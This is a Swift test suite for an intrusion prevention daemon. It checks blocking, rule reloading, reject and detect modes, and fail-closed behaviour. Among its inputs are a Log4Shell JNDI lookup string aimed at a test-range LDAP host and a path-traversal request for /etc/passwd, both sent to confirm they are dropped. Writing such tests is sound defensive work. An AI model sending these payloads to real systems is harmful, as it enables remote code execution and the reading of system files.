import Foundation
import TestSupport
import Testing

/// The real daemon on the real kernel. Without root and network namespaces these tests are skipped.
@Suite(.serialized, .enabled(if: TestTopology.isSupported, "needs root and network namespaces"), .timeLimit(.minutes(3)))
struct LiveTests {
    private let log4shell = ["-A", "${jndi:ldap://198.18.200.2/a}"]
    private let patches = ["--patches", "\(projectFolder)/rules"]

    @Test func exploitsDieAndNormalRequestsPass() throws {
        let site = try Site()
        try site.startDaemon(rules: "", arguments: patches, queues: "0-1")
        for url in [site.url, site.urlOverIPv6] {
            #expect(site.request("/", over: url) == "200")
            #expect(site.request("/?a", log4shell + ["--max-time", "1"], over: url) == "000")
            #expect(site.request("/cgi-bin/.%2e/.%2e/etc/passwd", ["--max-time", "1"], over: url) == "000")
            #expect(site.request("/?jndi", over: url) == "200")
        }
        #expect(!site.serverLog.contains("${jndi") && !site.serverLog.contains("passwd"))
        try site.wait("alerts are written") { try site.events("alert").count >= 4 }
        let alerts = try site.events("alert")
        #expect(alerts.allSatisfy { ($0["alert"] as? [String: Any])?["action"] as? String == "blocked" })
        #expect(try site.events("drop").contains { ($0["drop"] as? [String: Any])?["reason"] as? String == "flow drop" })
        // A writer of its own brings them to the file.
        try site.wait("requests are written") { try site.events("http").count >= 4 }
        #expect(try site.events("http").count >= 4)
        let flow = try #require(alerts.first?["flow_id"])
        let explanation = try site.control("explain", "\(flow)")
        #expect(explanation.contains("${jndi") && explanation.contains("rules") && explanation.contains("http.header"))
        #expect(try site.control("status").contains("mode prevent"))
        let flows = try site.control("flows", "--json")
        #expect(flows.contains("\"blocked\" : true") || flows.contains("\"blocked\":true"))
        #expect(try site.control("unblock", "--all").contains("unblocked"))
        let metrics = try site.topology.run(
            in: site.topology.host, ["curl", "-s", "--unix-socket", site.socket, "http://ipsd/metrics"])
        #expect(metrics.contains("rempart_"))
        #expect(try site.endDaemon() == 0)
        #expect(try site.events("flow").count >= 4 && site.log.contains("ending"))
    }

    @Test func reloadUnderTrafficLosesNothing() throws {
        let site = try Site()
        try site.startDaemon(rules: "drop http any any -> any any (http.uri; content:\"/one\"; sid:1;)\n")
        #expect(site.request("/one", ["--max-time", "1"]) == "000" && site.request("/two") == "404")
        let load = try site.launch(
            in: site.topology.client,
            ["sh", "-c", "for i in $(seq 200); do curl -s -o /dev/null -m 3 -w '%{http_code}\\n' \(site.url)/; done"],
            output: "answers")
        try site.folder.write(
            "site.rules",
            """
            drop http any any -> any any (http.uri; content:"/one"; sid:1;)
            drop http any any -> any any (http.uri; content:"/two"; sid:2;)
            """)
        #expect(try site.control("reload").contains("2 rules loaded, 0 failed"))
        #expect(site.request("/two", ["--max-time", "1"]) == "000")
        // A rule that runs and can't be read any more: nothing changes, and the place is named.
        try site.folder.write("site.rules", "\ndrop http any any -> any any (http.uri; contnt:\"/one\"; sid:1;)\n")
        #expect {
            _ = try site.control("reload")
        } throws: {
            "\($0)".contains("site.rules:2:") && "\($0)".contains("stay")
        }
        try FileManager.default.removeItem(atPath: "\(site.folder.path)/site.rules")
        #expect(throws: TestTopology.CommandFailure.self) { _ = try site.control("reload") }
        #expect(site.request("/one", ["--max-time", "1"]) == "000" && site.request("/two", ["--max-time", "1"]) == "000")
        load.waitUntilExit()
        let answers = try site.folder.text("answers").split(separator: "\n")
        #expect(answers.count == 200 && answers.allSatisfy { $0 == "200" })
        // SIGHUP does the same.
        try site.folder.write("site.rules", "drop http any any -> any any (http.uri; content:\"/three\"; sid:1;)\n")
        _ = try #require(site.ipsd.map { kill($0.processIdentifier, SIGHUP) })
        try site.wait("SIGHUP reloads") { site.request("/one") == "404" }
        #expect(site.request("/three", ["--max-time", "1"]) == "000")
        #expect(try site.endDaemon() == 0)
    }

    @Test func rejectEndsTheConnectionAtOnce() throws {
        let site = try Site()
        try site.startDaemon(rules: "rejectboth http any any -> any any (http.uri; content:\"/evil\"; sid:1;)\n")
        let start = Date()
        for url in [site.url, site.urlOverIPv6] { #expect(site.request("/evil", over: url) == "000") }
        #expect(Date().timeIntervalSince(start) < 2.5, "the client waited")
        try site.wait("alerts") { try site.events("alert").count == 2 }
        let verdict = try #require(try site.events("alert").first?["verdict"] as? [String: Any])
        #expect(verdict["reject_target"] as? String == "both")
    }

    @Test func detectModeChangesNothing() throws {
        let site = try Site()
        try site.startDaemon(
            rules: "drop http any any -> any any (http.uri; content:\"/evil\"; sid:1;)\n", arguments: ["--mode", "detect"])
        #expect(site.request("/evil") == "404")
        try site.wait("the alert") { try site.events("alert").count == 1 }
        #expect((try site.events("alert").first?["alert"] as? [String: Any])?["action"] as? String == "allowed")
        #expect(try site.events("drop").isEmpty)
    }

    @Test func bulkTransfersArriveWhole() throws {
        let site = try Site()
        try site.startDaemon(rules: "", arguments: patches)
        let sum = try site.topology.run(
            in: site.topology.client, ["sh", "-c", "curl -s --max-time 60 \(site.url)/big | sha256sum"])
        let expected = try site.topology.run(in: site.topology.server, ["sha256sum", "\(site.folder.path)/www/big"])
        #expect(sum.prefix(64) == expected.prefix(64))
        let stats = try JSONDecoder().decode([String: UInt64].self, from: Data(try site.control("stats", "--json").utf8))
        let (packets, bytes) = (stats["decoder.pkts"] ?? 0, stats["decoder.bytes"] ?? 0)
        #expect(packets > 0 && bytes / max(packets, 1) > 3000, "GSO packets come whole: \(bytes) bytes in \(packets) packets")
        #expect(stats["tcp.invalid_checksum"] == 0 && stats["ips.blocked"] == 0)
    }

    @Test func whatHappensWithoutTheDaemonIsTheOperatorsChoice() throws {
        let open = try Site()
        try open.startDaemon(rules: "")
        #expect(try open.endDaemon() == 0)
        #expect(open.request("/") == "200")
        let closed = try Site()
        try closed.startDaemon(rules: "", hook: ["--fail-closed"])
        #expect(closed.request("/") == "200")
        #expect(try closed.endDaemon() == 0)
        #expect(closed.request("/") == "000")
        try closed.topology.run(in: closed.topology.host, ["\(Site.programs)/ipsctl", "hook", "remove"])
        #expect(closed.request("/") == "200")
    }
}
